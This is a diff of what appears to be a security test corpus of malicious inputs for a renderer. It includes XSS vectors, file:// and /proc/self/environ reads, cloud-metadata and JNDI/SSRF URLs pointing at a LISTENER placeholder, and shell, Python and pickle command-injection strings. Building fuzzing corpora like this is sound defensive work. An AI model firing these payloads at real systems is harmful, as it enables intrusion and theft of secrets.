@@ -9,10 +9,8 @@ _HTML = r"""
 <img src=/CANARY>
 <img src=x onerror=alert(1)>
 <picture><source srcset=/CANARY></picture>
-<iframe src=file:///CANARY></iframe>
 <iframe srcdoc="<img src=/CANARY>">
 <object data=file:///CANARY></object>
-<object data=x type=image/svg+xml>
 <embed src=file:///CANARY>
 <link rel=stylesheet href=/CANARY>
 <link rel=attachment href=file:///CANARY>
@@ -20,7 +18,6 @@ _HTML = r"""
 <a href=javascript:alert(1)>x</a>
 <a href=#holder-slot>x</a>
 <base href=file:///>
-<meta name=author content=Mallory>
 <meta charset=utf-7>
 </title><title>Forged</title>
 </h2></div></body></html><h1>2
@@ -80,7 +77,6 @@ _CSS = r"""
 ;--x:var(--x);color:var(--x)
 ;counter-reset:x 999999999
 ;quotes:"\27""\22"
-</style><style>@import url(/CANARY);
 /* swallowed
 */ }
 \0000 \75\72\6c(/CANARY)
@@ -91,11 +87,7 @@ _SVG = r"""
 <svg onload=alert(1)>
 <svg><script>alert(1)</script></svg>
 <svg><image href=file:///CANARY /></svg>
-<svg><feImage href=/CANARY /></svg>
 <svg><style>@import url(/CANARY)</style>
-<svg><animate values=javascript:1 />
-<svg><filter id=f><feTile/></filter>
-<svg><cursor href=/CANARY />
 <svg viewBox="0 0 1e99 1e99">
 <svg xmlns="x" xml:base="file:///">
 <svg/></svg><svg/onload=x>
@@ -107,7 +99,6 @@ _SVG = r"""
 
 _ADDRESSES = r"""
 file:///CANARY
-file://localhost/CANARY
 file:/CANARY
 FILE:///CANARY
 file:///CANARY?x#y
@@ -115,7 +106,6 @@ file:///%43ANARY
 file:///proc/self/environ
 file:///proc/self/cmdline
 file:///dev/zero
-file:///dev/stdin
 file://C:/Windows/win.ini
 url(file:///CANARY)
 view-source:file:///CANARY
@@ -125,7 +115,6 @@ http://169.254.169.254/latest/meta-data/
 http://[::1]/
 http://[::ffff:127.0.0.1]/
 http://0x7f000001/
-http://2130706433/
 http://localhost.evil.example/
 https://evil.example/?q=<b>
 https:evil.example
@@ -135,23 +124,15 @@ https:evil.example
 \\LISTENER\share\x
 \\?\UNC\LISTENER\x
 ftp://LISTENER/x
-ftps://LISTENER/x
-sftp://LISTENER/x
-tftp://LISTENER/x
 gopher://LISTENER/_x
 dict://LISTENER/x
 ldap://LISTENER/x
 ${jndi:ldap://LISTENER/x}
 smb://LISTENER/x
-nfs://LISTENER/x
 ws://LISTENER/x
 jar:file:///CANARY!/x
-netdoc:///CANARY
-php://filter/resource=/CANARY
 phar:///CANARY
 expect://id
-zip:///CANARY#x
-glob:///tmp/*
 data:text/html,<script>1</script>
 data:image/svg+xml;base64,PHN2Zy8+
 data:,x
@@ -159,26 +140,13 @@ javascript:alert(1)
 java	script:alert(1)
 vbscript:msgbox(1)
 blob:null/0
-filesystem:http://LISTENER/
 about:blank
-about:srcdoc
 mailto:x@evil.example
-tel:+1
 cid:logo
-mid:x
-urn:x:y
-view:x
-design.invalid
 https://design.invalid/logo
-chrome://settings
-resource:///x
-ms-appx:///x
-android-app://x
 intent://x#Intent;end
-magnet:?xt=x
 unix:///var/run/docker.sock
 s3://bucket/key
-arn:aws:s3:::bucket/key
 """
 
 _TEMPLATES = r"""
@@ -273,7 +241,6 @@ BT /F1 12 Tf (forged) Tj ET
 /x0 Do
 BI /W 9999 /H 9999 ID x EI
 BX EX BDC EMC EMC EMC
-/Span << /ActualText (forged) >> BDC
 <feff0041>
 #2F#4A#53
 1 0 R
@@ -291,7 +258,6 @@ _XML = r"""
 </rdf:li></rdf:Alt></dc:title>
 </x:xmpmeta><x:xmpmeta>
 <pdfaid:part>9</pdfaid:part>
-xmlns="http://www.w3.org/2000/svg"
 ]]>
 <!--
 -->
@@ -333,7 +299,6 @@ $(id)
 @SUM(1+1)
 __import__('os').system('id')
 cos system (S'id' tR.
-!!python/object/apply:os.system [id]
 () { :;}; id
 {"$ne": null}
 --help
@@ -405,16 +370,12 @@ _UNICODE = [
     "\U0001d173\U0001d17a",
     "\u3030\u303d\u3299",
     "\U00013000\U00012000",
-    "\u2e3a\u2e3b" * 20,
     "\ua9c5\ua9c5",
 ]
 
 _LONG = [
     "W" * 200,
-    "Ab " * 66,
     "a-" * 90,
-    "&" * 120,
-    "\u4e00" * 100,
     "".join(chr(0xAC00 + n) for n in range(0, 9000, 90)),
     "a\u0430\u05d0\u0627\u0915\u0e01\u4e00\u1100\u0531\u10d0" * 9,  # a letter of each script
 ]
